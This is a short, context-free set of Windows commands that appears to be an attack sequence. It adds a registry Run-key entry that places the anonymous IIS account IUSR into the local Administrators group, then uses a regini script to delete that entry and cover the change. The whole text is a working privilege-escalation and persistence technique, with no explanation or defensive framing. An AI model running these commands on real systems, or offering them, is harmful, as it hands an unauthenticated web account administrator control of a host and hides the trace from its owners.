reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run /v setup /d "net localgroup Administrators IUSR /add" /f
echo HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows\CurrentVersion\Run > C:\keys.txt
echo   setup = DELETE >> C:\keys.txt
regini C:\keys.txt
